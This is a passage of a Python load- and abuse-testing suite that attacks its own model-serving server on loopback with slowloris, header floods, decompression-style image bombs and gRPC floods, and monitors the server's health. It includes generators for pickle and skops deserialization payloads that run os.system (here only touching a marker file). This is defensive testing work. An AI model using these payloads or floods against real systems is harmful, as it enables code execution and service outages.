"""Abuse suite: the attacks of issue 14 replayed against a real server, with a well-behaved client beside them.

Each attack starts a fresh server (``python -m service`` on a free loopback port, its settings as SERVE_*
environment variables), and while it runs a separate monitor process measures what a neighbour would see:

- a liveness prober: ``GET /healthz`` every 20 ms on a new connection each time (as a kubelet probes), and
  every 100 ms on one kept-alive connection: p50/p99/max latency and failures (non-200, error, over 2 s);
- a well-behaved client: steady valid requests (20/s over 4 connections, the model's example from
  ``GET /models``, with the API key when one is set): latency and every non-2xx answer or error;
- the server's memory: PSS (VmRSS without smaps_rollup) of the server process and its worker processes
  summed, from /proc every 50 ms: the peak and the level at the end of a 10 s settle after the attack
  (``--settle``), each also as a rise over the level just before the attack.

Checks common to every attack: the server alive, the good client only 2xx, /healthz never failing and its
p99 under 100 ms, memory peaking at most 500 MB and ending at most 300 MB above the level before the attack.

Attacks (``--only`` picks some; each is bounded in time, the whole suite takes about ten minutes):

    big-uploads        8 concurrent POST /fashion/image of a 6300x6300 RGBA PNG (~190 KB, flat colour) for
                       --seconds, and one more client looping an 8000x6000 photo-like JPEG; target: peak
                       RSS < 1.2 GB for the whole server
    icc-bomb           a valid PNG with a 7 MB ICC profile (random bytes: 7 MB on the wire; zeros: 7 KB);
                       target: 413 or 422 naming the cause, not 415 "not a PNG"
    json-key-flood     7 MB JSON objects with 800k unique unknown keys to /house-price, 3 at a time, without
                       a key and with one (SERVE_API_KEYS set); targets: 401 before the body is read, 413
                       with a key (per-route body limit), both within a second
    slowloris          --slow-connections (1000) connections that send nothing, trickle a header line every
                       3 s, or announce 8 MB and send 1 KB every 3 s, with SERVE_REQUEST_READ_TIMEOUT_S=5;
                       target: each closed within the timeout + 3 s
    conn-cap           SERVE_MAX_CONNECTIONS=256 (one worker: the cap is per process) and 356 idle connections:
                       how many stay open (the longest-waiting are closed to make room), how many get 503
                       or are closed, and what the prober and the client saw meanwhile (they need a
                       connection too)
    stream-flood       500 concurrent POST /poem/stream (a refused one retries after its Retry-After) while
                       the client calls POST /poem: its latency, how many streams got 503, the most that ran
                       at once
    tampered-artifact  a copy of the artifacts where house_price's preprocessor is a payload that creates a
                       marker file when loaded (pickle for .joblib, a ConstructorFromReduceNode for .skops),
                       fashion's weights a pickle payload and poem's manifest lists paths outside its folder,
                       each manifest re-hashed; targets: no marker, those models failed, phone-price serves.
                       A control loads each payload the unsafe way in a throwaway process, to show it is live.

Round two, against two workers with client keys and gRPC on (SERVE_WORKERS=2, SERVE_API_KEYS,
SERVE_GRPC_PORT; --seconds 15 unless given):

    header-flood       16 connections at once (each reconnects) send a request line, then 4 MB of header
                       lines without a key: many short lines, or one huge value; target: 431 and a close;
                       records the statuses and the bytes sent before the answer or the close
    pipeline-unread    8 connections pipeline GET /healthz (60 MB in all) and never read an answer: how much
                       each could send before the server stopped reading, how many answers it wrote, whether
                       it closed the connection; target: it stops reading (answers bounded)
    grpc-big-nokey     32 concurrent ModelInfer calls of 2 MB (fashion pixels as raw_input_contents), no
                       key; target: UNAUTHENTICATED; records the codes and each call's time
    grpc-big-invalid   the same with a key and invalid contents (FP32 bytes one value short of the shape, a
                       wrong shape, a BYTES tensor of empty elements, a message over the cap); target:
                       INVALID_ARGUMENT, RESOURCE_EXHAUSTED over the cap
    grpc-flood         64 callers of small phone-price ModelInfer calls (half without a key) while the good
                       HTTP client runs; targets: OK / UNAUTHENTICATED, the good client's p50 under 100 ms
    grpc-streams-unread  10,000 ModelInfer calls over 16 connections whose request never comes (streams the
                       server must hold), left hanging; how many were held vs ended early (RESOURCE_EXHAUSTED,
                       UNAVAILABLE), memory, and a gRPC probe call every 0.2 s on its own connection; target:
                       the probe served
    v2-bodies          POST /v2/models/{m}/infer with a key: 8 MB binary BYTES tensors of tiny elements
                       (Triton's 4-byte length framing; house-price's MSZoning, fashion's pixels) and JSON
                       arrays of 1M numbers (flat, nested) for fashion;
                       target: 400/413/422, answered within 2 s
    broken-upload-mix  64 clients mixing good requests (POST /fashion, /fashion/batch, /fashion/image of a
                       small PNG), bad ones (invalid JSON, wrong pixels) and a tiny PNG whose eXIf chunk is
                       not TIFF (Pillow's getexif() raises); targets: each good request answered exactly as
                       when sent alone, the broken upload 4xx (never 500), no good request 5xx

    python -m benchmarks.abuse [--only NAME ...] [--seconds S] [--settle 10] [--out benchmarks/results/abuse.json]

Reading the figures: a server that answers early (401, 413) and closes while a body is still arriving
resets the connection, and the reset can discard its answer before the client reads it; such requests are
counted as "reset mid-body" (the server stopped reading; the answer was lost), apart from errors after a
whole body. The fresh-connection prober also counts against SERVE_MAX_CONNECTIONS: while an attack holds
the cap, its failures are what a kubelet's liveness probe would see.

Prints one row per attack and writes the JSON (every figure, each attack's outcome and its checks). It
measures and reports whatever the server does: a refused connection, a timeout or a crashed server is a
result, never a crash of this script. ``run_attack(name, Options(...))`` runs one attack from Python (the
tests do).
"""

from __future__ import annotations

import argparse
import asyncio
import hashlib
import itertools
import json
import os
import pickle
import platform
import re
import resource
import select
import shlex
import shutil
import signal
import socket
import string
import subprocess
import sys
import tempfile
import threading
import time
import traceback
import zipfile
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import asdict, dataclass, field, replace
from pathlib import Path
from typing import Any

import httpx

from service.artifacts import version_folders

ROOT = Path(__file__).resolve().parent.parent
RESULTS = Path(__file__).parent / "results"
HOST = "127.0.0.1"
API_KEY = "abuse-suite-key-1"
MB = 1024 * 1024


@dataclass
class Options:
    seconds: float | None = 10.0          # how long each attack runs (slowloris: at least the read timeout + 6 s);
                                          # None: each attack's own default (10 s, the round-two attacks 15 s)
    slow_connections: int = 1000          # slowloris connections (capped by the file-descriptor limit)
    read_timeout_s: float = 5.0           # SERVE_REQUEST_READ_TIMEOUT_S for the slowloris run
    slow_max_connections: int | None = None  # SERVE_MAX_CONNECTIONS for the slowloris run (None: the default)
    connection_cap: int = 256             # SERVE_MAX_CONNECTIONS for the conn-cap run
    cap_extra: int = 100                  # conn-cap opens cap + this many idle connections
    streams: int = 500                    # stream-flood concurrency
    uploads: int = 8                      # big-uploads concurrency
    json_concurrency: int = 3             # json-key-flood: bodies in flight at once
    json_keys: int = 800_000              # json-key-flood: unique unknown keys per body
    good_rate: float = 20.0               # the well-behaved client's requests per second
    probe_interval_s: float = 0.02        # the fresh-connection /healthz prober's period
    baseline_s: float = 1.0               # monitoring before the attack starts
    settle_s: float = 10.0                # monitoring after it ends (RSS "after" is read at the end of it)
    client_timeout_s: float = 30.0        # the attacker's timeout per request
    control: bool = True                  # tampered-artifact: prove each payload is live in a throwaway process
    payload_dir: Path | None = None       # cache of the generated images (default: $TMPDIR/abuse-payloads)
    keep_work: bool = False               # keep each attack's folder (server log, tampered artifacts)
    server_nofile: int | None = None      # the server's RLIMIT_NOFILE soft limit (default: this process's at start)
    verbose: bool = False
    # round two (two workers, client keys, gRPC on)
    header_connections: int = 16          # header-flood: connections at once (each reconnects)
    header_bytes: int = 4 * MB            # header-flood: header bytes each connection sends
    pipeline_connections: int = 8         # pipeline-unread: connections
    pipeline_bytes: int = 60 * MB         # pipeline-unread: pipelined GET /healthz bytes over all of them
    grpc_concurrency: int = 32            # grpc-big-*: calls in flight at once
    grpc_message_bytes: int = 2_000_000   # grpc-big-*: raw_input_contents size, under SERVE_GRPC_MAX_MESSAGE_BYTES
    grpc_callers: int = 64                # grpc-flood: concurrent callers (half without a key)
    grpc_streams: int = 10_000            # grpc-streams-unread: calls opened and left hanging
    grpc_channels: int = 4                # gRPC connections the callers share
    grpc_stream_channels: int = 16        # grpc-streams-unread: connections the hanging calls share
    v2_bytes: int = 8_000_000             # v2-bodies: binary BYTES tensor size
    v2_numbers: int = 1_000_000           # v2-bodies: numbers in the JSON arrays
    v2_concurrency: int = 4               # v2-bodies: requests at once
    mix_clients: int = 64                 # broken-upload-mix: concurrent clients


# ---------------------------------------------------------------------------------------------------------------
# Small helpers


def percentile(values: list[float], q: float) -> float | None:
    """Nearest-rank percentile (q in 0-100) of ``values``; None when empty."""
    if not values:
        return None
    ordered = sorted(values)
    k = max(0, min(len(ordered) - 1, int(round(q / 100 * len(ordered) + 0.5)) - 1))
    return ordered[k]


def ms(seconds: float | None) -> float | None:
    return None if seconds is None else round(seconds * 1000, 1)


def latency_stats(seconds: list[float]) -> dict[str, Any]:
    return {"n": len(seconds), "p50_ms": ms(percentile(seconds, 50)), "p99_ms": ms(percentile(seconds, 99)),
            "max_ms": ms(max(seconds) if seconds else None)}


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind((HOST, 0))
        return sock.getsockname()[1]


ORIGINAL_NOFILE = resource.getrlimit(resource.RLIMIT_NOFILE)


def raise_nofile() -> int:
    """Raise this process's soft file-descriptor limit to the hard one (the attacker needs many sockets)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    target = hard if hard != resource.RLIM_INFINITY else max(soft, 65536)
    if soft < target:
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))
        except (ValueError, OSError):
            pass
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


HAVE_PSS = os.path.exists("/proc/self/smaps_rollup")


def process_tree_rss(pid: int) -> int | None:
    """Memory in bytes of ``pid`` and every descendant (via /proc/<pid>/task/*/children): the sum of their
    PSS (proportional set size: a page shared by the workers counts once in all), or of VmRSS where the
    kernel has no smaps_rollup; None once the server is gone."""
    total, seen, todo = 0, set(), [pid]
    found = False
    while todo:
        p = todo.pop()
        if p in seen:
            continue
        seen.add(p)
        try:
            with open(f"/proc/{p}/smaps_rollup" if HAVE_PSS else f"/proc/{p}/status") as handle:
                for line in handle:
                    if line.startswith("Pss:" if HAVE_PSS else "VmRSS:"):
                        total += int(line.split()[1]) * 1024
                        found = True
                        break
        except OSError:
            continue
        try:
            for task in os.listdir(f"/proc/{p}/task"):
                with open(f"/proc/{p}/task/{task}/children") as handle:
                    todo.extend(int(c) for c in handle.read().split())
        except OSError:
            pass
    return total if found else None


def parse_head(data: bytes) -> tuple[int | None, dict[str, str]]:
    lines = data.decode("latin-1").split("\r\n")
    try:
        status = int(lines[0].split()[1])
    except (IndexError, ValueError):
        status = None
    headers = {}
    for line in lines[1:]:
        if ":" in line:
            name, _, value = line.partition(":")
            headers[name.strip().lower()] = value.strip()
    return status, headers


async def read_head(reader: asyncio.StreamReader) -> tuple[int | None, dict[str, str]]:
    return parse_head(await reader.readuntil(b"\r\n\r\n"))


async def read_body(reader: asyncio.StreamReader, headers: dict[str, str], keep: int = 2000,
                    on_data: Callable[[bytes], None] | None = None) -> tuple[bytes, int]:
    """Read one response body (content-length, chunked, or until EOF): (its first ``keep`` bytes, its size)."""
    kept, total = bytearray(), 0

    def take(data: bytes) -> None:
        nonlocal total
        total += len(data)
        if len(kept) < keep:
            kept.extend(data[:keep - len(kept)])
        if on_data:
            on_data(data)

    if "content-length" in headers:
        left = int(headers["content-length"])
        while left > 0:
            data = await reader.read(min(left, 1 << 16))
            if not data:
                break
            left -= len(data)
            take(data)
    elif "chunked" in headers.get("transfer-encoding", "").lower():
        while True:
            line = await reader.readuntil(b"\r\n")
            size = int(line.split(b";")[0].strip() or b"0", 16)
            if size == 0:
                await reader.readuntil(b"\r\n")  # the (empty) trailer
                break
            take((await reader.readexactly(size + 2))[:-2])
    else:
        while data := await reader.read(1 << 16):
            take(data)
    return bytes(kept), total


def detail_of(body: bytes) -> str:
    """The ``detail`` of a JSON error body (or the text itself), shortened."""
    text = body.decode("utf-8", "replace")
    try:
        value = json.loads(text).get("detail", text)
        text = value if isinstance(value, str) else json.dumps(value)
    except (ValueError, AttributeError):
        pass
    return text[:300]


def close_writer(writer: asyncio.StreamWriter | None) -> None:
    if writer is not None:
        try:
            writer.transport.abort()
        except Exception:
            pass


async def exchange(port: int, head: bytes, body: bytes = b"", *, hold_at: int | None = None, hold_s: float = 0.0,
                   timeout: float = 30.0, keep: int = 2000) -> dict[str, Any]:
    """One raw HTTP/1.1 request on a new connection, the body written while the answer is awaited.

    With ``hold_at``, only the first ``hold_at`` body bytes are sent, then nothing for ``hold_s`` seconds,
    then the rest: an answer during the pause came before the server had the body. Returns the status, the
    seconds until the status line, body bytes written by then, the answer's size and detail, or the error."""
    out: dict[str, Any] = {"status": None, "error": None, "body_bytes": len(body)}
    t0 = time.monotonic()
    writer = None
    sent = 0
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, port, limit=1 << 20), 10)
    except Exception as exc:
        out["error"] = f"connect: {type(exc).__name__}"
        out["seconds"] = round(time.monotonic() - t0, 3)
        return out

    async def sender() -> None:
        nonlocal sent
        writer.write(head)
        await writer.drain()
        stop = len(body) if hold_at is None else min(hold_at, len(body))
        for limit, pause in ((stop, hold_s if hold_at is not None else 0.0), (len(body), 0.0)):
            while sent < limit:
                piece = body[sent:min(limit, sent + (1 << 18))]
                writer.write(piece)
                await writer.drain()
                sent += len(piece)
            if pause:
                await asyncio.sleep(pause)

    send_task = asyncio.create_task(sender())
    head_task = asyncio.create_task(read_head(reader))
    try:
        done, _ = await asyncio.wait({head_task}, timeout=timeout)
        if not done:
            out["error"] = f"no answer within {timeout:g} s"
            return out
        out["seconds"] = round(time.monotonic() - t0, 4)
        out["body_sent_at_answer"] = sent
        out["body_complete_at_answer"] = (send_task.done() and not send_task.cancelled()
                                          and send_task.exception() is None)
        try:
            status, headers = head_task.result()
        except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, ConnectionError, OSError) as exc:
            # A server that answers early and closes while the body is still coming sends a reset (unread data
            # in its socket), and the reset can discard its answer before this side reads it: counted apart.
            complete = out["body_complete_at_answer"]
            out["error"] = (f"closed without an answer: {type(exc).__name__}" if complete else
                            f"reset mid-body, answer unread: {type(exc).__name__}")
            out["reset_mid_body"] = not complete
            out["seconds"] = round(time.monotonic() - t0, 4)  # until the connection ended
            if send_task.done() and not send_task.cancelled() and send_task.exception() is not None:
                out["send_error"] = type(send_task.exception()).__name__
            return out
        out["status"] = status
        out["retry_after"] = headers.get("retry-after")
        send_task.cancel()
        try:
            kept, size = await asyncio.wait_for(read_body(reader, headers, keep), max(1.0, timeout - out["seconds"]))
            out["response_bytes"] = size
            out["detail"] = detail_of(kept)
        except (TimeoutError, asyncio.IncompleteReadError, ConnectionError, OSError, ValueError) as exc:
            out["response_error"] = type(exc).__name__
        out["total_seconds"] = round(time.monotonic() - t0, 4)
        return out
    finally:
        for task in (send_task, head_task):
            task.cancel()
        await asyncio.gather(send_task, head_task, return_exceptions=True)
        close_writer(writer)


def summarize_exchanges(results: list[dict]) -> dict[str, Any]:
    statuses = Counter(str(r["status"]) if r["status"] is not None else (r.get("error") or "none") for r in results)
    times = [r["seconds"] for r in results if r.get("status") is not None]
    ended = [r["seconds"] for r in results if r.get("status") is not None or r.get("reset_mid_body")]
    details = {}
    for r in results:
        key = str(r["status"])
        if r.get("detail") is not None and key not in details and not (r["status"] and r["status"] < 300):
            details[key] = r["detail"]
    return {"requests": len(results), "statuses": dict(statuses),
            "seconds_to_answer": {"p50": percentile(times, 50), "max": max(times) if times else None},
            "seconds_to_answer_or_reset": {"p50": percentile(ended, 50), "max": max(ended) if ended else None},
            "response_bytes_max": max((r.get("response_bytes") or 0 for r in results), default=0),
            "details": details}


# ---------------------------------------------------------------------------------------------------------------
# The server under test


class ServerError(RuntimeError):
    pass


class Server:
    """``python -m service`` on a free loopback port with SERVE_* settings, its output in ``work``."""

    def __init__(self, settings: dict[str, str], work: Path, nofile: int | None = None):
        self.port = free_port()
        self.url = f"http://{HOST}:{self.port}"
        self.grpc_port = int(settings["SERVE_GRPC_PORT"]) if settings.get("SERVE_GRPC_PORT") else None
        self.log_path = work / "server.log"
        self.log = open(self.log_path, "wb")
        env = {**os.environ, "PYTHONUNBUFFERED": "1", "SERVE_LOG_LEVEL": "WARNING", **settings}
        self.process = subprocess.Popen([sys.executable, "-m", "service", "--host", HOST, "--port", str(self.port)],
                                        cwd=ROOT, env=env, stdout=self.log, stderr=subprocess.STDOUT)
        # The server keeps the descriptor limit it would have had, not the attacker's raised one (set while it
        # is still importing, long before it opens its socket).
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        self.nofile = min(nofile or ORIGINAL_NOFILE[0], hard)
        try:
            resource.prlimit(self.process.pid, resource.RLIMIT_NOFILE, (self.nofile, hard))
        except (OSError, ValueError):
            self.nofile = soft

    @property
    def pid(self) -> int:
        return self.process.pid

    def alive(self) -> bool:
        return self.process.poll() is None

    def wait_ready(self, key: str | None, timeout: float = 180.0) -> dict[str, Any]:
        """Wait until /readyz answers 200 or 503 (models load before the server listens, so either is final)."""
        deadline = time.monotonic() + timeout
        last = "no answer"
        headers = {"X-API-Key": key} if key else {}
        while time.monotonic() < deadline:
            if not self.alive():
                raise ServerError(f"server exited with {self.process.returncode}: {self.log_tail(15)}")
            try:
                response = httpx.get(self.url + "/readyz", headers=headers, timeout=5)
                if response.status_code in (200, 503):
                    try:
                        body = response.json()
                    except ValueError:
                        body = {"text": response.text[:300]}
                    return {"status": response.status_code, "body": body}
                last = f"{response.status_code}: {response.text[:200]}"
            except httpx.HTTPError as exc:
                last = type(exc).__name__
            time.sleep(0.25)
        raise ServerError(f"/readyz did not answer 200 or 503 within {timeout:g} s (last: {last}); "
                          f"log: {self.log_tail(15)}")

    def log_tail(self, lines: int = 20) -> str:
        try:
            self.log.flush()
            text = self.log_path.read_text(errors="replace")
        except OSError:
            return ""
        return "\n".join(text.splitlines()[-lines:])

    def log_summary(self) -> dict[str, Any]:
        try:
            text = self.log_path.read_text(errors="replace")
        except OSError:
            text = ""
        errors = [line for line in text.splitlines() if re.search(r"\b(ERROR|CRITICAL|Traceback)\b", line)]
        return {"lines": text.count("\n"), "error_lines": len(errors), "first_errors": errors[:5],
                "tail": text.splitlines()[-8:]}

    def stop(self) -> int | None:
        if self.alive():
            self.process.send_signal(signal.SIGTERM)
            try:
                self.process.wait(15)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait(10)
        self.log.close()
        return self.process.returncode


# ---------------------------------------------------------------------------------------------------------------
# The monitor: a separate process, so the attacker's own work does not distort what it measures


def _fresh_probe(port: int, timeout: float = 2.0) -> tuple[float, int | str]:
    t0 = time.monotonic()
    try:
        with socket.create_connection((HOST, port), timeout=timeout) as sock:
            sock.settimeout(max(0.05, timeout - (time.monotonic() - t0)))
            sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
            data = b""
            while chunk := sock.recv(4096):  # Connection: close, so the server ends the answer by closing
                data += chunk
                if time.monotonic() - t0 > timeout:
                    raise TimeoutError
        status, _ = parse_head(data) if data else (None, {})
        return time.monotonic() - t0, status if status is not None else "empty answer"
    except (OSError, TimeoutError) as exc:
        return time.monotonic() - t0, type(exc).__name__


def _monitor_main(cfg: dict) -> None:  # pragma: no cover - runs in the child process
    """The monitor process: prints "ready", measures until a line arrives on stdin, prints the samples (JSON)."""
    stop = threading.Event()
    probes: list[tuple[float, str, float, Any]] = []  # (start, "fresh"|"keepalive", seconds, status or error)
    good: list[tuple[float, float, Any]] = []         # (start, seconds, status or error)
    rss: list[tuple[float, int | None]] = []
    in_flight = [0]
    lock = threading.Lock()
    port, pid = cfg["port"], cfg["pid"]

    def paced(period: float, action: Callable[[], None]) -> None:
        next_at = time.monotonic()
        while not stop.is_set():
            action()
            next_at += period
            now = time.monotonic()
            if next_at < now - period:  # fell behind (a slow answer): no burst to catch up
                next_at = now
            stop.wait(max(0.0, next_at - now))

    def fresh() -> None:
        t0 = time.monotonic()
        seconds, status = _fresh_probe(port)
        probes.append((t0, "fresh", seconds, status))

    keepalive_client = httpx.Client(base_url=f"http://{HOST}:{port}", timeout=2.0)

    def keepalive() -> None:
        t0 = time.monotonic()
        try:
            status: Any = keepalive_client.get("/healthz").status_code
        except httpx.HTTPError as exc:
            status = type(exc).__name__
        probes.append((t0, "keepalive", time.monotonic() - t0, status))

    def sample() -> None:
        rss.append((time.monotonic(), process_tree_rss(pid)))

    def good_client() -> None:
        headers = {"X-API-Key": cfg["key"]} if cfg["key"] else {}
        with httpx.Client(base_url=f"http://{HOST}:{port}", timeout=cfg["good_timeout"], headers=headers) as client:
            def call() -> None:
                t0 = time.monotonic()
                with lock:
                    in_flight[0] += 1
                try:
                    status: Any = client.post(cfg["good_path"], json=cfg["good_body"]).status_code
                except httpx.HTTPError as exc:
                    status = type(exc).__name__
                finally:
                    with lock:
                        in_flight[0] -= 1
                good.append((t0, time.monotonic() - t0, status))
            paced(cfg["good_threads"] / cfg["good_rate"], call)

    threads = [threading.Thread(target=paced, args=(cfg["probe_interval"], fresh), daemon=True),
               threading.Thread(target=paced, args=(0.1, keepalive), daemon=True),
               threading.Thread(target=paced, args=(0.05, sample), daemon=True)]
    if cfg["good_body"] is not None:
        threads += [threading.Thread(target=good_client, daemon=True) for _ in range(cfg["good_threads"])]
    for thread in threads:
        thread.start()
    deadline = time.monotonic() + 3
    while not probes and time.monotonic() < deadline:
        time.sleep(0.01)
    print("ready", flush=True)
    sys.stdin.readline()  # "stop" (or EOF: the parent is gone)
    stop.set()
    for thread in threads:
        thread.join(timeout=2)
    json.dump({"probes": list(probes), "good": list(good), "rss": list(rss), "good_in_flight_at_stop": in_flight[0]},
              sys.stdout)
    sys.stdout.flush()


class Monitor:
    """The monitor as a child process (``python -c``: independent of how this module was started), so the
    attacker's own work does not delay its measurements; samples come back as JSON on its stdout."""

    def __init__(self, server: Server, key: str | None, good_path: str, good_body: dict | None, opts: Options,
                 work: Path):
        self.cfg = {"port": server.port, "pid": server.pid, "key": key, "good_path": good_path,
                    "good_body": good_body, "good_rate": opts.good_rate, "good_threads": 4,
                    "good_timeout": 10.0, "probe_interval": opts.probe_interval_s}
        self.errors = open(work / "monitor.log", "wb")  # noqa: SIM115 - closed in stop()
        env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(ROOT), os.environ.get("PYTHONPATH")]))}
        self.process = subprocess.Popen(
            [sys.executable, "-c", ("import json, sys; from benchmarks.abuse import _monitor_main; "
                                    "_monitor_main(json.loads(sys.argv[1]))"), json.dumps(self.cfg)],
            cwd=ROOT, env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=self.errors)
        ready, _, _ = select.select([self.process.stdout], [], [], 60)
        line = self.process.stdout.readline() if ready else b""
        if line.strip() != b"ready":
            self.process.kill()
            self.process.wait()
            self.errors.close()
            raise RuntimeError(f"the monitor process did not start: {(work / 'monitor.log').read_text()[-500:]}")

    def stop(self) -> dict:
        try:
            out, _ = self.process.communicate(b"stop\n", timeout=30)
            return json.loads(out)
        except (subprocess.TimeoutExpired, ValueError) as exc:
            self.process.kill()
            self.process.wait()
            return {"probes": [], "good": [], "rss": [], "error": f"the monitor did not answer: {type(exc).__name__}"}
        finally:
            self.errors.close()


def summarize_samples(samples: dict, t_start: float, t_end: float) -> dict[str, Any]:
    """Figures over the attack window [t_start, t_end] (t_end includes the settle) and the baseline before it."""
    def window(rows, lo, hi):
        return [r for r in rows if lo <= r[0] <= hi]

    out: dict[str, Any] = {}
    for kind in ("fresh", "keepalive"):
        for label, (lo, hi) in (("during", (t_start, t_end)), ("baseline", (0, t_start))):
            rows = [r for r in window(samples.get("probes", []), lo, hi) if r[1] == kind]
            failures = [r for r in rows if r[3] != 200 or r[2] > 2.0]
            ok_times = [r[2] for r in rows if r[3] == 200]
            stats = latency_stats([r[2] for r in rows])
            stats["ok_p99_ms"] = ms(percentile(ok_times, 99))
            stats["failures"] = len(failures)
            stats["failure_kinds"] = dict(Counter(str(r[3]) for r in failures))
            stats["longest_gap_ms"] = ms(max((b[0] - a[0] for a, b in itertools.pairwise(rows)), default=None))
            name = "healthz" if kind == "fresh" else "healthz_keepalive"
            out[name if label == "during" else f"{name}_baseline"] = stats
    rows = window(samples.get("good", []), t_start, t_end)
    statuses = Counter(str(r[2]) for r in rows)
    non_2xx = {k: v for k, v in statuses.items() if not (k.isdigit() and 200 <= int(k) < 300)}
    out["good_client"] = {"requests": len(rows), "statuses": dict(statuses), "non_2xx": non_2xx,
                          "non_2xx_count": sum(non_2xx.values()),
                          **{k: v for k, v in latency_stats([r[1] for r in rows]).items() if k != "n"},
                          "in_flight_at_stop": samples.get("good_in_flight_at_stop")}
    base = [r[1] for r in samples.get("good", []) if r[0] < t_start and str(r[2]).startswith("2")]
    out["good_client_baseline"] = latency_stats(base)
    rss = samples.get("rss", [])
    before = [r[1] for r in rss if r[0] < t_start and r[1]]
    during = [r[1] for r in window(rss, t_start, t_end) if r[1]]
    out["rss_mb"] = {"before": round(before[-1] / MB, 1) if before else None,
                     "peak": round(max(during) / MB, 1) if during else None,
                     "after": round(during[-1] / MB, 1) if during else None,
                     "samples": len(during)}
    if before and during:  # rises over the level just before the attack; "after": at the end of the settle
        out["rss_mb"]["peak_rise"] = round((max(during) - before[-1]) / MB, 1)
        out["rss_mb"]["end_rise"] = round((during[-1] - before[-1]) / MB, 1)
    # every 0.5 s from the attack's start (negative: the baseline), to tell a plateau from a leak
    timeline, next_at = [], None
    for t, value in rss:
        if value and (next_at is None or t >= next_at):
            timeline.append([round(t - t_start, 1), round(value / MB, 1)])
            next_at = t + 0.5
    out["rss_timeline_mb"] = timeline
    return out


# ---------------------------------------------------------------------------------------------------------------
# Payloads


def payload_dir(opts: Options) -> Path:
    path = opts.payload_dir or Path(tempfile.gettempdir()) / "abuse-payloads"
    path.mkdir(parents=True, exist_ok=True)
    return path


def _garment(draw, width: int, height: int, fill) -> None:
    """A T-shirt-like polygon, so the image is a plausible (if huge) product picture."""
    w, h = width / 100, height / 100
    points = [(30, 15), (42, 12), (50, 18), (58, 12), (70, 15), (88, 32), (78, 42), (70, 36), (70, 88), (30, 88),
              (30, 36), (22, 42), (12, 32)]
    draw.polygon([(x * w, y * h) for x, y in points], fill=fill)


def _atomic_save(path: Path, save: Callable[[Path], None]) -> Path:
    if not path.is_file() or path.stat().st_size == 0:
        tmp = path.with_name(path.name + f".{os.getpid()}.tmp")
        save(tmp)
        os.replace(tmp, path)
    return path


def big_png(directory: Path, side: int = 6300) -> Path:
    """A side x side RGBA PNG (39.7 M pixels at 6300, under the 40 M cap), mostly flat: about 170 KB."""
    def save(path: Path) -> None:
        from PIL import Image, ImageDraw
        image = Image.new("RGBA", (side, side), (245, 245, 245, 255))
        draw = ImageDraw.Draw(image)
        _garment(draw, side, side, (40, 45, 70, 255))
        draw.rectangle((0, 0, side // 8, side // 8), fill=(0, 0, 0, 0))  # a transparent corner: alpha matters
        image.save(path, format="PNG", compress_level=9)
    return _atomic_save(directory / f"big_rgba_{side}.png", save)


def big_jpeg(directory: Path, size: tuple[int, int] = (8000, 6000)) -> Path:
    """An 8000x6000 (48 M pixels) photo-like JPEG: smooth colour fields, a garment, a little noise (~1 MB)."""
    def save(path: Path) -> None:
        import numpy as np
        from PIL import Image, ImageDraw
        rng = np.random.default_rng(14)
        small = Image.fromarray(rng.integers(90, 230, (6, 8, 3), dtype=np.uint8))
        image = small.resize(size, Image.BICUBIC)
        _garment(ImageDraw.Draw(image), *size, (60, 50, 45))
        noise = Image.effect_noise(size, 6).convert("RGB")
        image = Image.blend(image, noise, 0.08)
        image.save(path, format="JPEG", quality=80)
    return _atomic_save(directory / f"photo_{size[0]}x{size[1]}.jpg", save)


def icc_png(directory: Path, kind: str, size: int = 7_000_000) -> Path:
    """A valid 256x256 PNG whose ICC profile is ``size`` random bytes ("random": as large on the wire) or
    zeros ("zeros": a few KB compressed, 7 MB once inflated)."""
    def save(path: Path) -> None:
        from PIL import Image, ImageDraw
        image = Image.new("RGB", (256, 256), (250, 250, 250))
        _garment(ImageDraw.Draw(image), 256, 256, (30, 30, 30))
        profile = os.urandom(size) if kind == "random" else bytes(size)
        image.save(path, format="PNG", icc_profile=profile)
    return _atomic_save(directory / f"icc_{kind}_{size}.png", save)


def key_flood_body(keys: int) -> bytes:
    """A JSON object with ``keys`` unique short keys (base 62, up to 4 characters): 7.2 MB at 800k."""
    alphabet = string.ascii_letters + string.digits
    parts, n = [], 0
    length = 1
    while n < keys:
        for i in range(len(alphabet) ** length):
            if n >= keys:
                break
            name, rest = "", i
            for _ in range(length):
                rest, digit = divmod(rest, len(alphabet))
                name += alphabet[digit]
            parts.append(f'"{name}":0')
            n += 1
        length += 1
    return ("{" + ",".join(parts) + "}").encode()


class _Command:
    """Pickled as ``os.system(command)``: unpickling it runs the command (the classic __reduce__ payload)."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def pickle_payload(marker: Path) -> bytes:
    return pickle.dumps(_Command(f"touch {shlex.quote(str(marker))}"), protocol=2)


def skops_payload(marker: Path, like: bytes | None = None) -> bytes:
    """A skops file whose root is ``os.system("touch <marker>")``: skops's ConstructorFromReduceNode calls the
    named type with the stored arguments, so loading it with that type trusted runs the command."""
    protocol, version = 2, "0.16.0"
    if like:
        try:
            with zipfile.ZipFile(__import__("io").BytesIO(like)) as original:
                schema = json.loads(original.read("schema.json"))
            protocol, version = schema.get("protocol", protocol), schema.get("_skops_version", version)
        except (zipfile.BadZipFile, KeyError, ValueError):
            pass
    command = f"touch {shlex.quote(str(marker))}"
    schema = {
        "__class__": "system", "__module__": os.system.__module__, "__loader__": "ConstructorFromReduceNode",
        "content": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
                    "content": [{"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
                                 "content": json.dumps(command), "is_json": True}]},
        "protocol": protocol, "_skops_version": version,
    }
    buffer = __import__("io").BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema, indent=2))
    return buffer.getvalue()


# ---------------------------------------------------------------------------------------------------------------
# Attacks


@dataclass
